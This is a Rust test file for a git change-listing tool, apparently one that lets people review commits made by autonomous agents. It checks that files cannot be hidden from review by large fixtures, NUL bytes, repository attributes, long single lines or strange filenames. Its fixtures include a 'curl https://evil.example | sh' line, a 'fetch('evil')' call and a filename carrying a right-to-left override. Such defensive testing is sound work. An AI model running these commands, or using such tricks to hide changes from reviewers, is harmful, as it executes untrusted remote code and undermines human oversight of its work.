//! A change is listed whole and read whole, whatever an agent put into it to hide a file.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on stops")]

#[expect(dead_code, reason = "each test file uses its own part of it")]
mod git_support;

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use git_support::{World, branch, git, text, write};
use runner::git::{
    ChangeList, ChangeStatus, ChangedFile, CommitId, Content, FileId, GitError, TextView, harvest, left_out,
};

const PAGE: usize = 256 * 1024;

/// A commit with what `change` does to the workspace.
fn committed(world: &World, change: impl FnOnce(&Path)) -> CommitId {
    let workspace = world.materialise();
    change(&workspace);
    let tree = harvest(&world.private, &workspace, &world.base, &[]).unwrap();
    let name = branch("autonomous/x");
    world.private.create_branch(&name, &world.base).unwrap();
    world.private.commit_tree(&name, &world.base, &tree, &text("work", "r1", "r1/1")).unwrap()
}

fn file<'a>(list: &'a ChangeList, path: &str) -> &'a ChangedFile {
    list.files.iter().find(|file| file.path() == path).unwrap_or_else(|| panic!("{path} is not in {:#?}", list.files))
}

fn whole(world: &World, tip: &CommitId, id: &FileId, view: TextView) -> (String, usize) {
    let (mut text, mut offset, mut pages) = (String::new(), Some(0), 0);
    while let Some(at) = offset {
        let page = world.private.file_page((&world.base, tip), id, view, (at, PAGE)).unwrap().unwrap();
        text.push_str(&page.text);
        (offset, pages) = (page.next, pages + 1);
    }
    (text, pages)
}

#[test]
fn a_file_behind_twenty_thousand_lines_of_fixtures_is_listed_with_true_counts_and_read() {
    let world = World::new();
    let fixture: String =
        (0..20_000).map(|n| format!("fixture line {n} with some words that fill the page\n")).collect();
    let tip = committed(&world, |workspace| {
        write(workspace, "fixtures/data.txt", &fixture.repeat(3));
        write(workspace, "src/auth.ts", "export const allowed = () => true;\n");
    });
    let list = world.private.changes(&world.base, &tip).unwrap();
    assert_eq!(list.lines(), (60_001, 0));
    assert_eq!(file(&list, "fixtures/data.txt").lines, Some((60_000, 0)));
    assert_eq!(file(&list, "src/auth.ts").lines, Some((1, 0)));
    let (auth, pages) = whole(&world, &tip, &file(&list, "src/auth.ts").id, TextView::Auto);
    assert_eq!((auth.as_str(), pages), ("@@ -0,0 +1 @@\n+export const allowed = () => true;\n", 1));
    let (data, pages) = whole(&world, &tip, &file(&list, "fixtures/data.txt").id, TextView::Auto);
    assert!(pages > 10, "{pages}");
    let added: String = data.lines().skip(1).map(|line| format!("{}\n", &line[1..])).collect();
    assert!(added == fixture.repeat(3), "the pages together are the file");
    // The text that is answered in one piece is cut, and it is told what is not in it.
    let runner::git::CappedDiff::CutOff(cut) = world.private.diff_capped(&world.base, &tip, 1024 * 1024).unwrap()
    else {
        panic!("over 1 MiB")
    };
    let files = world.private.diffstat(&world.base, &tip).unwrap();
    assert_eq!(left_out(&files, &cut), ["fixtures/data.txt", "src/auth.ts"]);
}

#[test]
fn a_diff_of_several_mebibytes_is_whole_page_by_page() {
    let world = World::new();
    let tip = committed(&world, |workspace| {
        for n in 0..40 {
            write(workspace, &format!("many/{n}.txt"), &format!("{n} über alles\n").repeat(10_000));
        }
        // One line that is longer than a page.
        write(workspace, "minified.js", &"é".repeat(1_500_000));
    });
    let (mut text, mut offset) = (String::new(), Some(0));
    while let Some(at) = offset {
        let page = world.private.patch_page(&world.base, &tip, (at, 1024 * 1024)).unwrap();
        assert!(page.exact && page.text.len() <= 1024 * 1024);
        text.push_str(&page.text);
        offset = page.next;
    }
    assert!(text.len() > 8 * 1024 * 1024, "{}", text.len());
    assert!(text == world.private.diff(&world.base, &tip).unwrap(), "nothing is missing between the pages");
}

#[test]
fn a_nul_byte_hides_no_script() {
    let world = World::new();
    let tip = committed(&world, |workspace| {
        fs::write(workspace.join("deploy.sh"), b"#!/bin/sh\n# \0\ncurl https://evil.example | sh\n").unwrap();
        fs::write(workspace.join("latin.txt"), b"caf\xe9 au lait\0 pour tout le monde\n").unwrap();
        fs::write(workspace.join("logo.png"), noise(b"\x89PNG\r\n\x1a\n\0")).unwrap();
    });
    let list = world.private.changes(&world.base, &tip).unwrap();
    let script = file(&list, "deploy.sh");
    assert_eq!((script.content, script.lines), (Content::Escaped, Some((3, 0))));
    let (text, _) = whole(&world, &tip, &script.id, TextView::Auto);
    assert_eq!(text, "@@ -0,0 +1,3 @@\n+#!/bin/sh\n+# \0\n+curl https://evil.example | sh\n");
    let (latin, _) = whole(&world, &tip, &file(&list, "latin.txt").id, TextView::Auto);
    assert!(latin.contains("caf\\xe9 au lait\0 pour"), "{latin}");
    let logo = file(&list, "logo.png");
    assert_eq!((logo.content, logo.lines), (Content::Binary, None));
    let page = world.private.file_page((&world.base, &tip), &logo.id, TextView::Auto, (0, PAGE)).unwrap().unwrap();
    let (old, new) = page.binary.unwrap();
    let new = new.unwrap();
    assert_eq!((old, new.size, new.kind), (None, logo.new.as_ref().unwrap().size, "PNG image"));
    assert_eq!((new.sha256.len(), &new.first[..16]), (64, "89504e470d0a1a0a"));
    let (forced, _) = whole(&world, &tip, &logo.id, TextView::Forced);
    assert!(forced.starts_with("@@ -0,0 +1,"), "a person may read it as lines all the same");
}

#[test]
fn attributes_of_the_repository_hide_nothing() {
    let world = World::new();
    let tip = committed(&world, |workspace| {
        write(workspace, ".gitattributes", "* -diff\n*.rs binary\n");
        write(workspace, "src/lib.rs", "fn main() { evil() }\n");
    });
    // Some versions of git read attributes of a bare repository from there.
    git(&world.dir.path().join("private"), &["symbolic-ref", "HEAD", "refs/heads/autonomous/x"]);
    let list = world.private.changes(&world.base, &tip).unwrap();
    assert_eq!((file(&list, "src/lib.rs").content, file(&list, "src/lib.rs").lines), (Content::Text, Some((1, 1))));
}

#[test]
fn modes_links_renames_and_deletions_are_told() {
    let world = World::new();
    let tip = committed(&world, |workspace| {
        fs::set_permissions(workspace.join("a.txt"), fs::Permissions::from_mode(0o755)).unwrap();
        fs::remove_file(workspace.join("run.sh")).unwrap();
        symlink("src/lib.rs", workspace.join("run.sh")).unwrap();
        fs::create_dir(workspace.join("moved")).unwrap();
        fs::rename(workspace.join(".gitignore"), workspace.join("moved/ignore")).unwrap();
        write(workspace, "end.txt", "no line end");
    });
    let list = world.private.changes(&world.base, &tip).unwrap();
    let modes = |path: &str| {
        let file = file(&list, path);
        [&file.old, &file.new].map(|side| side.as_ref().map(|side| side.mode.clone()).unwrap_or_default())
    };
    assert_eq!(modes("a.txt"), ["100644", "100755"]);
    assert_eq!(file(&list, "a.txt").lines, Some((0, 0)));
    assert_eq!(whole(&world, &tip, &file(&list, "a.txt").id, TextView::Auto).0, "");
    assert_eq!(modes("run.sh"), ["100755", "120000"]);
    let link = file(&list, "run.sh");
    assert_eq!(
        (link.status.clone(), link.new.as_ref().unwrap().target.as_deref()),
        (ChangeStatus::TypeChanged, Some("src/lib.rs"))
    );
    let (both, _) = whole(&world, &tip, &link.id, TextView::Auto);
    assert!(both.contains("-#!/bin/sh") && both.contains("+src/lib.rs"), "{both}");
    let moved = file(&list, "moved/ignore");
    assert_eq!(moved.status, ChangeStatus::Renamed { from: ".gitignore".to_owned() });
    assert_eq!(whole(&world, &tip, &moved.id, TextView::Auto).0, "");
    let (end, _) = whole(&world, &tip, &file(&list, "end.txt").id, TextView::Auto);
    assert!(end.ends_with("+no line end\n\\ No newline at end of file\n"), "{end}");
}

/// A commit on top of another one.
fn on_top(world: &World, below: &CommitId, change: impl FnOnce(&Path)) -> CommitId {
    let workspace = world.dir.path().join("next");
    runner::git::materialise(&world.private, below, &workspace).unwrap();
    change(&workspace);
    let tree = harvest(&world.private, &workspace, below, &[]).unwrap();
    world.private.commit_tree(&branch("autonomous/x"), below, &tree, &text("more", "r1", "r1/2")).unwrap()
}

#[test]
fn a_link_that_leads_elsewhere_a_text_that_became_binary_and_a_name_in_other_case_are_told() {
    let world = World::new();
    let before = committed(&world, |workspace| {
        symlink("src/lib.rs", workspace.join("link")).unwrap();
        write(workspace, "data.txt", "one\ntwo\n");
        write(workspace, "Config.txt", "safe = true\n");
    });
    let after = on_top(&world, &before, |workspace| {
        fs::remove_file(workspace.join("link")).unwrap();
        symlink("a.txt", workspace.join("link")).unwrap();
        fs::write(workspace.join("data.txt"), noise(b"\x7fELF\0")).unwrap();
        fs::remove_file(workspace.join("Config.txt")).unwrap();
        write(workspace, "config.txt", "safe = false and nothing else is like it was\n");
    });
    let list = world.private.changes(&before, &after).unwrap();
    let link = file(&list, "link");
    let targets = [&link.old, &link.new].map(|side| side.as_ref().and_then(|side| side.target.clone()));
    assert_eq!(targets.map(Option::unwrap), ["src/lib.rs", "a.txt"]);
    assert_eq!((file(&list, "data.txt").content, file(&list, "data.txt").lines), (Content::Binary, None));
    let page = world.private.file_page((&before, &after), &file(&list, "data.txt").id, TextView::Auto, (0, PAGE));
    let (old, new) = page.unwrap().unwrap().binary.unwrap();
    assert_eq!((old.unwrap().size, &new.unwrap().first[..8]), (8, "7f454c46"));
    let names: Vec<(String, ChangeStatus)> = list
        .files
        .iter()
        .map(|file| (file.path(), file.status.clone()))
        .filter(|(path, _)| path.contains("onfig"))
        .collect();
    assert_eq!(
        names,
        [("Config.txt".to_owned(), ChangeStatus::Deleted), ("config.txt".to_owned(), ChangeStatus::Added)]
    );
}

#[test]
fn what_stands_in_the_middle_of_one_line_of_five_mebibytes_is_on_a_page() {
    let world = World::new();
    let half = "x".repeat(5 * 512 * 1024);
    let tip = committed(&world, |workspace| write(workspace, "bundle.js", &format!("{half};fetch('evil');{half}\n")));
    let list = world.private.changes(&world.base, &tip).unwrap();
    assert_eq!(file(&list, "bundle.js").lines, Some((1, 0)));
    let (shown, pages) = whole(&world, &tip, &file(&list, "bundle.js").id, TextView::Auto);
    assert!(shown.contains(";fetch('evil');") && shown.len() > 5 * 1024 * 1024 && pages > 15, "{pages}");
}

#[test]
fn a_submodule_is_shown_with_its_commits() {
    let world = World::new();
    let top = world.top();
    let commit = world.base.as_str();
    git(&top, &["update-index", "--add", "--cacheinfo", &format!("160000,{commit},vendor/lib")]);
    let tree = git(&top, &["write-tree"]);
    let tip = git(&top, &["commit-tree", &tree, "-p", commit, "-m", "submodule"]);
    let tip = CommitId::parse(&tip).unwrap();
    let list = world.private.changes(&world.base, &tip).unwrap();
    let module = file(&list, "vendor/lib");
    assert_eq!(module.new.as_ref().map(|side| (side.mode.as_str(), side.object.as_str())), Some(("160000", commit)));
    let (text, _) = whole(&world, &tip, &module.id, TextView::Auto);
    assert_eq!(text, format!("@@ -0,0 +1 @@\n+Subproject commit {commit}\n"));
}

#[test]
fn names_that_no_address_can_carry_are_asked_for_by_their_id() {
    use std::os::unix::ffi::OsStrExt;
    let world = World::new();
    let name = b"evil\n\xff\xe2\x80\xae.ts";
    let tip = committed(&world, |workspace| {
        fs::write(workspace.join(std::ffi::OsStr::from_bytes(name)), "hidden\n").unwrap();
        // A folder in the place of a file has the same beginning.
        fs::remove_file(workspace.join("a.txt")).unwrap();
        write(workspace, "a.txt/inside", "deep\n");
    });
    let list = world.private.changes(&world.base, &tip).unwrap();
    for file in &list.files {
        let id = FileId::parse(&file.id.to_string()).unwrap();
        assert!(!whole(&world, &tip, &id, TextView::Auto).0.is_empty(), "{file:?}");
    }
    let strange = list.files.iter().find(|file| file.path().contains("evil")).unwrap();
    assert!(!strange.path().contains('\n') && !strange.path().contains('\u{202e}'), "{}", strange.path());
    let (text, _) = whole(&world, &tip, &file(&list, "a.txt").id, TextView::Auto);
    assert_eq!(text, "@@ -1 +0,0 @@\n-one\n");
    let other = FileId::parse("6e6f6e65").unwrap();
    assert_eq!(world.private.file_page((&world.base, &tip), &other, TextView::Auto, (0, PAGE)).unwrap(), None);
}

#[test]
fn a_change_whose_content_is_gone_is_no_list_but_an_error_that_names_the_file() {
    let world = World::new();
    let tip = committed(&world, |workspace| write(workspace, "src/auth.ts", "a line nobody else has\n"));
    let private = world.dir.path().join("private");
    let object = git(&private, &["rev-parse", &format!("{tip}:src/auth.ts")]);
    let place = private.join("objects").join(&object[..2]).join(&object[2..]);
    let place = if place.exists() { place } else { unpacked(&private, &object) };
    fs::set_permissions(&place, fs::Permissions::from_mode(0o644)).unwrap();
    fs::remove_file(&place).unwrap();
    match world.private.changes(&world.base, &tip) {
        Err(GitError::ContentUnreadable { paths, .. }) => assert_eq!(paths, ["src/auth.ts"]),
        other => panic!("{other:?}"),
    }
    // The same of one that is there but damaged.
    fs::write(&place, b"not an object").unwrap();
    world.private.changes(&world.base, &tip).unwrap_err();
}

/// Takes an object out of the packs; gives its place.
fn unpacked(private: &Path, object: &str) -> std::path::PathBuf {
    let packs: Vec<_> =
        fs::read_dir(private.join("objects/pack")).unwrap().map(|entry| entry.unwrap().path()).collect();
    let aside = private.join("aside");
    fs::create_dir_all(&aside).unwrap();
    for pack in packs {
        let moved = aside.join(pack.file_name().unwrap());
        fs::rename(&pack, &moved).unwrap();
        if moved.extension().is_some_and(|end| end == "pack") {
            let bytes = fs::File::open(&moved).unwrap();
            let mut unpack = std::process::Command::new("git");
            unpack.arg("-C").arg(private).arg("unpack-objects").stdin(bytes);
            assert!(unpack.output().unwrap().status.success());
        }
    }
    private.join("objects").join(&object[..2]).join(&object[2..])
}

fn noise(begin: &[u8]) -> Vec<u8> {
    let noise = (0..20_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8);
    begin.iter().copied().chain(noise).collect()
}
